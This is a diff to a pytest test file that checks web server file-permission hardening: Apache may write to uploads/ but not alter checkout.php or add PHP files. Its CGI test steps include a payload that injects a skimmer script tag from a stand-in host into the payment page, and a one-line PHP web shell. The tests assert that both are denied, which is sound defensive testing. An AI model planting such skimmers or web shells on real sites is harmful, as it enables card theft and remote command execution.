@@ -4,6 +4,8 @@
 container (site-client, issue #10), against each host's address on the internal network; the
 member's login shell (su -) on the host itself."""
 
+import base64
+
 import pytest
 from testlib import lftp, peer
 
@@ -135,27 +137,78 @@ def test_ftp03_web_server_user_denied_ftp_by_derivation(host):
     assert "www-data" in block.split(), text
 
 
+UPLOADS = f"{DOCROOT}/uploads"
+CHECKOUT = f"{DOCROOT}/checkout.php"
+# The CGI's attempts, each printed as name=ok or name=denied.
+CGI_STEPS = {
+    "create-upload": f"printf 'made by apache\\n' > {UPLOADS}/cms-made.txt",
+    "modify-upload": f"printf 'edited by apache\\n' >> {UPLOADS}/cms-made.txt",
+    "modify-checkout": f"printf '<script src=//skimmer.example></script>\\n' >> {CHECKOUT}",
+    "create-php": f"printf '<?php system($_GET[0]);\\n' > {DOCROOT}/shell.php",
+}
+
+
+def acl_user_entries(host, path):
+    """{uid: perm} of the named-user entries of a path's access ACL (the xattr, read with python3:
+    no acl package on the host)."""
+    code = ("import os,struct,sys\n"
+            "try: raw = os.getxattr(sys.argv[1], 'system.posix_acl_access')\n"
+            "except OSError: raw = b'\\x02\\0\\0\\0'\n"
+            "print(' '.join('%d:%o' % (i, p) for t, p, i in struct.iter_unpack('<HHI', raw[4:]) if t == 2))")
+    with host.sudo():
+        out = host.check_output("python3 -c %s %s", code, path)
+    return {int(u): int(p, 8) for u, p in (item.split(":") for item in out.split())}
+
+
 @pytest.fixture(scope="module")
-def cgi(host):
-    """A CGI script that writes a file into the docroot, as a CMS would."""
+def cgi(host, client):
+    """A CGI script run by Apache that tries, as a CMS (or an attacker through it) would, to write
+    into uploads/ (DR-06's writable place), to rewrite checkout.php and to plant a new .php; fetched
+    once per host with curl from the client. Returns {step: "ok" or "denied"}."""
+    script = "\n".join(["#!/bin/sh", "printf 'Content-Type: text/plain\\n\\n'"] + [
+        f"if {{ {cmd}; }} 2>/dev/null; then echo {name}=ok; else echo {name}=denied; fi"
+        for name, cmd in CGI_STEPS.items()]) + "\n"
     with host.sudo():
         host.run_expect([0], "a2enmod -q cgid && systemctl restart apache2")
-        host.run_expect(
-            [0],
-            "printf '%%s\\n' '#!/bin/sh' 'printf \"made by apache\\n\" > %s/cms-made.txt' "
-            "'printf \"Content-Type: text/plain\\n\\nwritten\\n\"' > /usr/lib/cgi-bin/write.cgi "
-            "&& chmod 755 /usr/lib/cgi-bin/write.cgi && rm -f %s/cms-made.txt",
-            DOCROOT, DOCROOT,
-        )
-    return "/cgi-bin/write.cgi"
-
-
-def test_web02_file_written_by_apache_is_group_writable_in_team_group(host, client, server, cgi):
-    result = client.run("curl -fsS http://%s%s", server, cgi)
+        host.run_expect([0], "echo %s | base64 -d > /usr/lib/cgi-bin/write.cgi && chmod 755 /usr/lib/cgi-bin/write.cgi "
+                             "&& rm -f %s/cms-made.txt %s/shell.php",
+                        base64.b64encode(script.encode()).decode(), UPLOADS, DOCROOT)
+        checkout_before = host.file(CHECKOUT).content_string
+    result = client.run("curl -fsS http://%s/cgi-bin/write.cgi", ADDRESSES[host.backend.get_hostname()])
     assert result.rc == 0, result.stderr
-    assert result.stdout.strip() == "written"
-    assert mode_group(host, f"{DOCROOT}/cms-made.txt") == ["664", GROUP]
-    assert host.file(f"{DOCROOT}/cms-made.txt").user == "www-data"
+    steps = dict(line.split("=", 1) for line in result.stdout.split())
+    return {"steps": steps, "checkout_before": checkout_before}
+
+
+def test_web02_file_written_by_apache_is_group_writable_in_team_group(host, cgi):
+    """WEB-02, in DR-06's writable place (the rest of the docroot is read-only for Apache here)."""
+    assert cgi["steps"]["create-upload"] == "ok", cgi
+    assert mode_group(host, f"{UPLOADS}/cms-made.txt") == ["664", GROUP]
+    assert host.file(f"{UPLOADS}/cms-made.txt").user == "www-data"
+
+
+def test_dr06_web_server_modifies_its_files_in_the_writable_place(host, cgi):
+    """It keeps write there: its new file inherits uploads/'s default entry (rwx; the mask, 0664's group
+    bits, makes it rw-), so the next run has nothing to change and the file stays the team's."""
+    assert cgi["steps"]["modify-upload"] == "ok", cgi
+    with host.sudo():
+        assert host.file(f"{UPLOADS}/cms-made.txt").content_string == "made by apache\nedited by apache\n"
+    assert acl_user_entries(host, f"{UPLOADS}/cms-made.txt") == {host.user("www-data").uid: 0o7}
+
+
+def test_dr06_web_server_cannot_rewrite_the_payment_page(host, cgi):
+    """The issue's reproduction: a root:root 0644 checkout.php that DR-03 made 0664 in the team group,
+    of which the web server is a member; its named ACL entry (r-x, effective r--) wins over the group."""
+    assert mode_group(host, CHECKOUT) == ["664", GROUP]
+    assert cgi["steps"]["modify-checkout"] == "denied", cgi
+    with host.sudo():
+        assert host.file(CHECKOUT).content_string == cgi["checkout_before"]
+    assert acl_user_entries(host, CHECKOUT) == {host.user("www-data").uid: 0o5}
+
+
+def test_dr06_web_server_cannot_plant_a_php_file_outside_the_writable_place(host, cgi):
+    assert cgi["steps"]["create-php"] == "denied", cgi
+    assert not host.file(f"{DOCROOT}/shell.php").exists
 
 
 def test_web03_server_tokens_and_trace_off(client, server):
